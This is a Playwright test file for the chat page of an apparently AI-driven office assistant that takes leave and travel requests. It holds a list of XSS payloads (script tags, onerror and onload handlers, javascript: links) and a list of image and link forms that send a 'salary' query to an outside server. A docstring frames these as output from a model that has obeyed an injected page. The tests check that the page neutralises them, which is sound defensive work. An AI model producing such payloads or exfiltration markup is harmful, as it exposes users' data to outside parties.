"""A conversation at the page: by mouse and by keys, over restarts, whatever is written."""

import asyncio
import re
from datetime import UTC, datetime
from typing import Any

import httpx
import pytest
from playwright.async_api import Route, expect

from router.domain.principals import DEFAULT_TENANT
from router.domain.records import LogEntry
from router.runtime.composition import Parts
from tests.fakes.web_server import WebServer, json_reply
from tests.page.house import LOST_CONNECTION, PHONE, Caller, Door, Served, Visitor


async def ask_for_leave(alice: Visitor, days: str, reason: str) -> None:
    """Say all at once, and confirm what the card lists."""
    await alice.say(f"我要请年假，{days}，{reason}")
    card = alice.page.locator(".answer.confirm .card")
    await expect(card.locator("dd", has_text=reason)).to_be_visible()
    await alice.press("确认")
    await alice.hears("已提交给 陈博 Bob 审批")


async def test_alice_asks_step_by_step_and_sees_bob_decide(alice: Visitor, bob: Visitor) -> None:
    await bob.go("待我审批")
    await alice.say("我要请假")
    await alice.press("年假")
    await alice.page.get_by_label("开始", exact=True).fill("2026-12-07")
    await alice.press("提交")
    await alice.page.get_by_label("结束", exact=True).fill("2026-12-08")
    await alice.press("提交")
    await alice.hears("请假事由是什么")
    await alice.say("陪家人看病")
    card = alice.page.locator(".answer.confirm .card")
    await expect(card.locator("dt")).to_have_text(["假别", "开始", "结束", "工作日天数", "事由"])
    await expect(card.locator("dd", has_text="陪家人看病")).to_be_visible()
    await alice.press("确认")
    await alice.hears("已提交给 陈博 Bob 审批")
    await expect(alice.page.locator(".flow-card summary")).to_contain_text("审批中")
    await expect(bob.card("陪家人看病")).to_be_visible()
    asked = await bob.opened("陪家人看病")
    await expect(asked).to_contain_text("王丽 Alice")
    await expect(asked).to_contain_text(re.compile("还剩 [23] ?天"))
    await expect(bob.page).to_have_title(re.compile(r"^\(\d+\) "))
    await asked.get_by_role("button", name="同意").click()
    await expect(asked).to_have_count(0)
    await alice.hears("你的年假批准了")
    await expect(alice.page.locator(".flow-card summary")).to_contain_text("已完成")
    await alice.go("我的申请")
    mine = alice.card("陪家人看病").or_(alice.card("12月7日")).first
    await expect(mine).to_contain_text("已完成")
    await mine.get_by_text("内容", exact=True).click()
    await expect(mine.locator(".timeline strong")).to_have_text(
        ["开始填写", "确认提交", "同意", "已完成"]
    )


@pytest.mark.slow
@pytest.mark.parametrize("looks", [{}, {"viewport": PHONE, "color_scheme": "dark"}], ids=str)
async def test_what_one_may_begin_with_is_of_every_kind_and_lists_are_tables(
    door: Door, served: Served, looks: dict[str, Any]
) -> None:
    frank = await (await door.visitor(served, **looks)).come("Frank Novak")
    chips = frank.page.locator(".options .choice")
    await expect(chips).to_have_count(6)
    await frank.say("how many days off do I have left")
    table = frank.answers.last.locator("table")
    await expect(table.locator("th")).to_have_text(["Kind", "Left", "Used", "In all"])
    await expect(table.locator("tbody td").first).to_have_text("annual leave")
    await expect(table.locator("tbody td.amount").first).to_have_css("text-align", "end")
    assert await frank.answers.last.locator("p").count() == 1
    assert await frank.violations() == []
    assert await frank.overflow() <= 0


@pytest.mark.slow
async def test_a_suggestion_is_answered_by_a_rule(door: Door, served: Served) -> None:
    frank = await (await door.visitor(served)).come("Frank Novak")
    await frank.page.get_by_role("button", name="how much leave do I have").click()
    await expect(frank.answers.last.locator("table")).to_be_visible()
    await frank.page.locator(".why > summary").last.click()
    await expect(frank.page.locator(".why p").last).to_contain_text("plainly asks for")
    assert await frank.page.locator(".why code:visible").count() == 0


@pytest.mark.slow
async def test_what_may_be_left_out_has_a_button_that_leaves_it_out(alice: Visitor) -> None:
    await alice.say("我要出差，下周二到周四去上海拜访客户，坐高铁，预计3000元")
    await alice.hears("有同行的同事吗")
    await alice.press("跳过")
    await expect(alice.page.locator(".answer.confirm")).to_be_visible()
    await expect(alice.page.locator(".skip-it:visible")).to_have_count(0)


@pytest.mark.slow
async def test_a_request_is_cancelled_at_the_card_of_its_flow(alice: Visitor) -> None:
    await alice.say("我要请年假")
    await alice.hears("从哪天开始")
    card = alice.page.locator(".flow-card")
    await card.locator("summary").first.click()
    await expect(card.locator("dd")).to_have_text(["年假"])
    await expect(card.get_by_role("link", name="在 Temporal 中查看")).to_be_visible()
    await card.get_by_role("button", name="不办了").click()
    await (
        card.get_by_role("group", name="确定不办了？").get_by_role("button", name="不办了").click()
    )
    await expect(card.locator("summary").first).to_contain_text("已取消")
    await expect(card.get_by_role("button", name="不办了")).to_have_count(0)
    await alice.say("我要报销")
    await expect(alice.page.locator(".answer.choices:enabled button").first).to_be_visible()


async def test_a_request_from_first_word_to_last_by_keys(door: Door, served: Served) -> None:
    alice = await (await door.visitor(served)).come()
    keys = alice.page.keyboard
    await keys.press("Tab")
    await expect(alice.page.locator(".skip")).to_be_focused()
    person = alice.page.get_by_role("button", name="王丽 Alice")
    while not await person.evaluate("one => one === document.activeElement"):
        await keys.press("Tab")
    await keys.press("Enter")
    await expect(alice.box).to_be_focused()
    await keys.type("我要请假")
    await keys.press("Enter")
    await expect(alice.page.get_by_role("button", name="年假", exact=True)).to_be_visible()
    await keys.press("Shift+Tab")
    await keys.press("3")
    start = alice.page.get_by_label("开始", exact=True)
    await expect(start).to_be_focused()
    await expect(alice.log.locator(".user p").last).to_have_text("事假")
    await keys.press("Enter")
    await expect(alice.page.get_by_text("请填写“开始”。")).to_be_visible()
    described = await start.get_attribute("aria-describedby")
    await expect(alice.page.locator(f"#{described}")).to_have_text("请填写“开始”。")
    await keys.type("01132027")
    await keys.press("Enter")
    await expect(alice.page.get_by_label("结束", exact=True)).to_be_focused()
    await keys.type("01132027")
    await keys.press("Enter")
    await alice.hears("请假事由是什么")
    await expect(alice.box).to_be_focused()
    await keys.type("办证")
    await keys.press("Enter")
    yes = alice.page.get_by_role("button", name="确认", exact=True)
    await expect(yes).to_be_visible()
    while not await yes.evaluate("one => one === document.activeElement"):
        await keys.press("Shift+Tab")
    await keys.press("Enter")
    await alice.hears("已提交给 陈博 Bob 审批")
    await expect(alice.page.locator("#status")).to_contain_text("已提交给 陈博 Bob 审批")


@pytest.mark.slow
async def test_whoever_went_on_to_a_button_before_the_answer_was_finished_stays_on_it(
    alice: Visitor,
) -> None:
    held = asyncio.Event()

    async def late(route: Route) -> None:
        answer = await route.fetch()
        await held.wait()
        await route.fulfill(response=answer)

    await alice.page.route("**/messages", late)
    await alice.say("我要请假")
    annual = alice.page.get_by_role("button", name="年假", exact=True)
    await annual.focus()
    async with alice.page.expect_request("**/v1/conversations?*"):  # the last act of an answer
        held.set()
    await expect(annual).to_be_focused()


@pytest.mark.slow
async def test_what_is_said_before_a_conversation_is_there_all_belongs_to_it(
    alice: Visitor,
) -> None:
    opened = asyncio.Event()

    async def late(route: Route) -> None:
        await opened.wait()
        await route.continue_()

    await alice.page.route(re.compile(r"/v1/conversations$"), late)
    await alice.say("我要请年假")
    await alice.say("12月9日到10日")
    opened.set()
    await alice.hears("请假事由是什么")
    await expect(alice.log.locator(".user p")).to_have_text(["我要请年假", "12月9日到10日"])
    await expect(alice.log.locator(".pending")).to_have_count(0)


@pytest.mark.slow
async def test_a_reload_in_the_middle_loses_nothing_and_says_nothing_twice(alice: Visitor) -> None:
    await alice.say("我要请年假")
    await expect(alice.page.get_by_label("开始", exact=True)).to_be_visible()
    await alice.say("12月9日到10日")
    await alice.page.reload()  # with the answer still on its way
    await alice.hears("请假事由是什么")
    await expect(alice.log.locator(".user p")).to_have_text(["我要请年假", "12月9日到10日"])
    await expect(alice.log.locator(".pending")).to_have_count(0)
    assert await alice.answers.filter(has_text="请假事由是什么").count() == 1
    await alice.say("搬家")
    await alice.press("确认")
    await alice.hears("已提交给 陈博 Bob 审批")


@pytest.mark.slow
async def test_what_is_said_while_the_server_is_away_is_answered_when_it_is_back(
    door: Door, served: Served
) -> None:
    alice = await (await door.visitor(served, forgives=LOST_CONNECTION)).come("王丽 Alice")
    await alice.say("我要请病假")
    await alice.hears("从哪天开始")
    await served.stop()
    await alice.say("12月14日一天，看牙")
    await expect(alice.page.get_by_text("连不上服务器，正在重试…")).to_be_visible()
    await expect(alice.log.locator(".user.pending")).to_have_text("12月14日一天，看牙")
    await served.start()
    await expect(alice.page.locator(".answer.confirm dd", has_text="看牙")).to_be_visible()
    await expect(alice.page.get_by_text("连不上服务器，正在重试…")).to_be_hidden()
    await expect(alice.log.locator(".user p")).to_have_text(["我要请病假", "12月14日一天，看牙"])
    await expect(alice.log.locator(".pending")).to_have_count(0)


@pytest.mark.slow
async def test_a_restart_amid_an_answer_loses_none_of_it(door: Door, served: Served) -> None:
    alice = await (await door.visitor(served, forgives=LOST_CONNECTION)).come("王丽 Alice")
    async with alice.page.expect_request(lambda asked: asked.url.endswith("/messages")):
        await alice.say("我要请年假，12月15日到16日，回老家")
    await served.stop()
    await served.start()
    await expect(alice.page.locator(".answer.confirm dd", has_text="回老家")).to_be_visible()
    await expect(alice.log.locator(".user p")).to_have_count(1)
    await expect(alice.page.locator(".answer.confirm")).to_have_count(1)


@pytest.mark.slow
async def test_what_is_said_in_another_window_appears_here(door: Door, served: Served) -> None:
    here = await (await door.visitor(served)).come("王丽 Alice")
    await here.say("我要请事假")
    await here.hears("从哪天开始")
    address = here.page.url.removeprefix(served.origin)
    there = await (await door.visitor(served)).come("王丽 Alice", at=address)
    await there.hears("从哪天开始")
    await there.say("12月17日")
    await expect(here.log.locator(".user p").last).to_have_text("12月17日")
    await expect(here.log.locator(".user p")).to_have_count(2)


HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<script>document.title='owned'</script>",
    "[here](javascript:alert(1)) javascript:alert(1)",
    "data:text/html,<b>x</b> //evil.example vbscript:x",
    "**<b>bold</b>** `</code><i>x</i>`",
    "```\n<svg onload=alert(1)>\n```",
    "1. <u>one</u>\n2. &lt;two&gt;",
    "\u202egnp.exe\u202c \u0000".replace("\u0000", ""),
]


async def told(parts: Parts, conversation: str, text: str) -> None:
    """Have the router say it, unasked."""
    at = datetime.now(UTC)
    said = LogEntry(
        key=f"{conversation}:{at}",
        kind="message",
        at=at,
        conversation=conversation,
        recipient="gina",
        data={"role": "assistant", "text": text, "replies": [{"type": "text", "text": text}]},
    )
    await parts.store.log.append(DEFAULT_TENANT, [said])


async def at_a_conversation(door: Door, served: Served, parts: Parts) -> tuple[Visitor, str]:
    gina = Caller(served, "gina")
    conversation: str = (await gina.http.post("/v1/conversations")).json()["id"]
    await gina.http.aclose()
    await told(parts, conversation, "开始")
    visitor = await door.visitor(served)
    await visitor.come("吉娜 Gina", at=f"/#/c/{conversation}")
    await visitor.hears("开始")
    return visitor, conversation


@pytest.mark.slow
async def test_what_looks_like_markup_is_text_and_leads_nowhere(
    door: Door, served: Served, parts: Parts
) -> None:
    gina, conversation = await at_a_conversation(door, served, parts)
    dialogs: list[str] = []
    gina.page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    for number, text in enumerate(HOSTILE):
        await told(parts, conversation, f"{text}\n\n第{number}条")
        await gina.hears(f"第{number}条")
    made = await gina.log.evaluate(
        "log => [...log.querySelectorAll('img, script, svg, b, i, u, a')].map(one => one.outerHTML)"
    )
    assert made == []
    assert dialogs == []
    assert await gina.page.title() != "owned"
    await expect(gina.log).to_contain_text("<img src=x onerror=alert(1)>")
    await expect(gina.log).to_contain_text("<script>document.title='owned'</script>")


FETCHING = [
    "![a](ADDRESS)",
    "![a][r]\n\n[r]: ADDRESS",
    "<img src=ADDRESS><link rel=stylesheet href=ADDRESS><video src=ADDRESS>",
    "```html\n<img src=ADDRESS>\n```",
    "| a |\n| --- |\n| ![a](ADDRESS) |",
    "<svg><image href='ADDRESS'/></svg> <style>@import 'ADDRESS'</style>",
    "ADDRESS ADDRESS.png",
]
"""What a model says that obeys a page, so that whoever shows it asks a stranger's address."""


@pytest.mark.slow
async def test_nothing_that_a_model_says_is_asked_for(
    door: Door, served: Served, parts: Parts
) -> None:
    gina, conversation = await at_a_conversation(door, served, parts)
    async with WebServer(lambda _: json_reply({})) as stranger:
        secret = f"{stranger.origin}/?q=salary"
        asked: list[str] = []
        gina.page.on("request", lambda request: asked.append(request.url))
        for number, form in enumerate(FETCHING):
            await told(parts, conversation, f"{form.replace('ADDRESS', secret)}\n\n第{number}条")
            await gina.hears(f"第{number}条")
        shown = await gina.page.request.get(served.origin)

        assert stranger.requests == []
        assert [url for url in asked if not url.startswith(served.origin)] == []
        # Nor is the host of a link looked up before it is followed.
        assert shown.headers["x-dns-prefetch-control"] == "off"


ADDRESSES = {
    "见 https://docs.example/a?b=1。": "https://docs.example/a?b=1",
    "see (http://docs.example/x)": "http://docs.example/x",
    "见“https://docs.example/中文”": "https://docs.example/%E4%B8%AD%E6%96%87",
}


@pytest.mark.slow
async def test_an_address_in_text_can_be_followed(door: Door, served: Served, parts: Parts) -> None:
    gina, conversation = await at_a_conversation(door, served, parts)
    for text, address in ADDRESSES.items():
        await told(parts, conversation, text)
        link = gina.answers.filter(has_text=text).locator("a")
        await expect(link, text).to_have_count(1)
        assert await link.evaluate("one => one.href") == address
        assert await link.get_attribute("rel") == "noopener noreferrer"


@pytest.mark.slow
async def test_news_elsewhere_are_marked_until_they_are_looked_at(
    door: Door, served: Served, parts: Parts
) -> None:
    gina, elsewhere = await at_a_conversation(door, served, parts)
    await gina.page.get_by_role("link", name="新对话").click()
    entry = gina.page.locator(f'.conversations a[data-id="{elsewhere}"]')
    await expect(entry).to_contain_text("开始")
    await asyncio.gather(told(parts, elsewhere, "批准了"), told(parts, elsewhere, "已经登记"))
    await expect(entry).to_contain_text("有新消息")
    await expect(gina.page.locator(".conversations a").first).to_have_attribute(
        "data-id", elsewhere
    )
    await entry.click()
    await gina.hears("已经登记")
    await expect(entry).not_to_contain_text("有新消息")


@pytest.mark.slow
@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("申请停车证 京A12345？", "申请停车证 京A12345？"),
        ("车牌：京A12345\n提交吗？", "提交吗？"),
        ("Submit the parking permit for 京A12345?", "Submit the parking permit for 京A12345?"),
        ("车牌：京A12345\n车牌：京A12345", "车牌：京A12345"),
    ],
)
async def test_a_card_keeps_what_is_asked_and_leaves_out_what_it_lists(
    alice: Visitor, text: str, kept: str
) -> None:
    script = "async (reply) => (await import('/web/replies.js')).besides(reply)"
    shown = await alice.page.evaluate(script, {"text": text, "summary": {"车牌": "京A12345"}})
    assert shown == kept


@pytest.mark.slow
async def test_a_conversation_is_deleted_once_it_is_confirmed(alice: Visitor, parts: Parts) -> None:
    page = alice.page
    await alice.say("现在几点")
    await expect(alice.log.locator(".bot").last).to_be_visible()
    listed = page.get_by_role("navigation", name="对话").get_by_role("link", name="现在几点")
    await expect(listed.first).to_be_visible()
    id_ = page.url.rpartition("/")[2]
    delete = page.get_by_role("button", name="删除对话")
    await delete.click()
    await page.get_by_role("button", name="算了").click()
    assert await parts.store.conversations.find(DEFAULT_TENANT, id_) is not None
    await delete.click()
    await page.get_by_role("group").get_by_role("button", name="删除对话").click()
    await expect(page).to_have_url(re.compile("#/new$"))
    await expect(page.locator(f'[data-id="{id_}"]')).to_have_count(0)
    assert await parts.store.conversations.find(DEFAULT_TENANT, id_) is None
    await expect(delete).to_be_hidden()
    await expect(alice.box).to_be_focused()


@pytest.mark.slow
async def test_a_conversation_that_is_deleted_elsewhere_is_gone_here_too(
    served: Served, alice: Visitor
) -> None:
    await alice.say("现在几点")
    await expect(alice.page).to_have_url(re.compile("#/c/"))
    await expect(alice.log.locator(".bot .about")).to_be_visible()
    alice.forgives = ("404",)
    path = f"{served.origin}/v1/conversations/{alice.page.url.rpartition('/')[2]}"
    async with httpx.AsyncClient(headers={"Authorization": "Bearer alice"}) as client:
        assert (await client.delete(path)).status_code == 204
    await expect(alice.page.get_by_role("heading", name="这里没有对话")).to_be_visible()
    await expect(alice.page.get_by_role("button", name="删除对话")).to_be_hidden()
